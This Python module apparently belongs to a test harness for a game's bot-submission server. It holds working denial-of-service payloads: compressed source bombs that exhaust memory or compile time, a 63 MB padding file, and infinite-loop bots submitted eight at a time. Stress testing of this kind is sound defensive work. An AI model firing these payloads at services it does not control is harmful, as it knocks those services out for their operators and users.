"""Attacks by owners who submit bots that cost a server much memory or time."""

import asyncio
import io
import zipfile
from collections.abc import AsyncIterator
from itertools import cycle
from typing import Any

from noughts_proto.v1 import bots_pb2, bots_pb2_grpc

_BOT = "from noughts_bots import Bot\nclass Mine(Bot):\n    def choose(self, position):\n        {}\n"
_BOMBS = (
    {"bot.py": "x=[" + "[]," * 2_000_000 + "]"},
    {"bot.py": "a\n" * 131_000},
    {f"part{number}.py": "x=[" + "[]," * 80_000 + "]" for number in range(4)} | {"bot.py": _BOT.format("return 0")},
    {"bot.py": "-" * 200_000 + "1"},
    {"bot.py": _BOT.format("return position.free[0]"), "weights.bin": "0" * (63 << 20)},
)
"""Files of programs that are small as zip files, and large when Python compiles or the server unpacks them."""
_SPINNING = _BOT.format("while True: pass")
_AT_ONCE = 8
"""Bots that are submitted at the same time."""


async def source_bomb(target: Any) -> None:
    """Submit small zip files whose content takes much memory or time to read."""
    await _submit_all(target, [_zipped(files) for files in _BOMBS], 2)


async def trial_queue(target: Any) -> None:
    """Submit bots that never move, so that their trials last until the time limit."""
    await _submit_all(target, [_SPINNING.encode()], _AT_ONCE)


async def _submit_all(target: Any, programs: list[bytes], at_once: int) -> None:
    program_cycle = cycle(programs)
    async with target.channel() as channel, asyncio.TaskGroup() as tasks:
        stub: Any = bots_pb2_grpc.BotServiceStub(channel)
        for _ in range(at_once):
            tasks.create_task(
                target.repeat(lambda: stub.SubmitBot(_requests(next(program_cycle)), metadata=target.metadata))
            )


async def _requests(program: bytes) -> AsyncIterator[bots_pb2.SubmitBotRequest]:
    yield bots_pb2.SubmitBotRequest(submission=bots_pb2.Submission(bot="bomb", kind="py", size=len(program)))
    for start in range(0, len(program), 65_536):
        yield bots_pb2.SubmitBotRequest(chunk=program[start : start + 65_536])


def _zipped(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()
